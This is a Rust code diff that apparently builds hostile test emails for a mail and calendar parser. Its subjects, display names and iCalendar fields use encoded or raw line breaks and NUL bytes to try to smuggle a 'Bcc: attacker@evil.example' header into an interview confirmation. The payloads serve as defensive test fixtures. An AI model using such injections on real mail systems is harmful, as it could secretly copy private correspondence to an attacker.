@@ -231,32 +231,55 @@ fn nul_bytes(index: usize, rng: &mut fastrand::Rng) -> Vec<u8> {
     raw
 }
 
-/// Names and subjects that try to smuggle a header (a `Bcc:`) in: raw CR/LF, encoded
-/// words that decode to CR/LF or NUL, folded lines that start a new field.
-pub fn header_injection(index: usize, rng: &mut fastrand::Rng) -> Vec<u8> {
-    let subjects = [
-        "=?utf-8?Q?Interview_confirmed=0D=0ABcc:_attacker@evil.example?=",
-        "=?utf-8?B?SW50ZXJ2aWV3DQpCY2M6IGF0dGFja2VyQGV2aWwuZXhhbXBsZQ==?=",
-        "Interview confirmed\rBcc: attacker@evil.example",
-        "=?utf-8?Q?Interview=00Bcc:_attacker@evil.example?=",
-    ];
-    let names = [
-        "=?utf-8?Q?Jordan_Reyes=0D=0ABcc:_attacker@evil.example?=",
-        "\"Jordan\r\nBcc: attacker@evil.example\"",
-        "=?utf-8?B?Sm9yZGFuDQpCY2M6IGF0dGFja2VyQGV2aWwuZXhhbXBsZQ==?=",
-        "\"Jordan\0Reyes\"",
-    ];
-    let subject = subjects[rng.usize(..subjects.len())];
-    let name = names[rng.usize(..names.len())];
+/// Subjects that try to smuggle a header (a `Bcc:`) in: encoded words that decode to
+/// CR/LF or NUL, a bare CR.
+pub const INJECTED_SUBJECTS: [&str; 4] = [
+    "=?utf-8?Q?Interview_confirmed=0D=0ABcc:_attacker@evil.example?=",
+    "=?utf-8?B?SW50ZXJ2aWV3DQpCY2M6IGF0dGFja2VyQGV2aWwuZXhhbXBsZQ==?=",
+    "Interview confirmed\rBcc: attacker@evil.example",
+    "=?utf-8?Q?Interview=00Bcc:_attacker@evil.example?=",
+];
+
+/// Display names that try the same: encoded CR/LF, a quoted CR/LF, NUL.
+pub const INJECTED_NAMES: [&str; 4] = [
+    "=?utf-8?Q?Jordan_Reyes=0D=0ABcc:_attacker@evil.example?=",
+    "\"Jordan\r\nBcc: attacker@evil.example\"",
+    "=?utf-8?B?Sm9yZGFuDQpCY2M6IGF0dGFja2VyQGV2aWwuZXhhbXBsZQ==?=",
+    "\"Jordan\0Reyes\"",
+];
+
+fn header_injection(index: usize, rng: &mut fastrand::Rng) -> Vec<u8> {
+    let subject = INJECTED_SUBJECTS[rng.usize(..INJECTED_SUBJECTS.len())];
+    let name = INJECTED_NAMES[rng.usize(..INJECTED_NAMES.len())];
+    injected_confirmation(index, subject, name)
+}
+
+/// An interview confirmation from `name` <jordan@hostileINDEX.example> with `subject`,
+/// with a calendar invitation whose attendee's name and summary carry line breaks in
+/// iCalendar's own escapes (RFC 6868 `^n`, RFC 5545 `\\n`).
+pub fn injected_confirmation(index: usize, subject: &str, name: &str) -> Vec<u8> {
+    let domain = format!("hostile{index}.example");
     format!(
-        "From: {name} <jordan@hostile{index}.example>\r\n\
+        "From: {name} <jordan@{domain}>\r\n\
          To: Sam Seeker <sam@rig.test>\r\n\
          Subject: {subject}\r\n\
          Date: Tue, 01 Dec 2026 09:00:00 -0600\r\n\
-         Message-ID: <inject-{index}@hostile{index}.example>\r\n\
-         Content-Type: text/plain; charset=utf-8\r\n\r\n\
+         Message-ID: <inject-{index}@{domain}>\r\n\
+         MIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=\"inj\"\r\n\r\n\
+         --inj\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
          Hi Sam,\r\n\r\nThis confirms your interview for the Platform Engineer role on\r\n\
-         Thursday, December 3, 2026 from 2:00 PM to 3:00 PM CST with {name}.\r\n\r\nJordan\r\n"
+         Thursday, December 3, 2026 from 2:00 PM to 3:00 PM CST with {name}.\r\n\r\nJordan\r\n\
+         --inj\r\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n\
+         BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n\
+         UID:inject-{index}@{domain}\r\nDTSTAMP:20261201T150000Z\r\n\
+         DTSTART;TZID=America/Chicago:20261203T140000\r\nDTEND;TZID=America/Chicago:20261203T150000\r\n\
+         SUMMARY:Interview\\nBcc: attacker@evil.example\r\n\
+         ORGANIZER;CN=\"Jordan^nBcc: attacker@evil.example\":mailto:jordan@{domain}\r\n\
+         ATTENDEE;CN=Sam Seeker:mailto:sam@rig.test\r\n\
+         ATTENDEE;CN=\"Jordan^nBcc: attacker@evil.example\";ROLE=REQ-PARTICIPANT:mailto:jordan@{domain}\r\n\
+         END:VEVENT\r\nEND:VCALENDAR\r\n\
+         --inj--\r\n"
     )
     .into_bytes()
 }
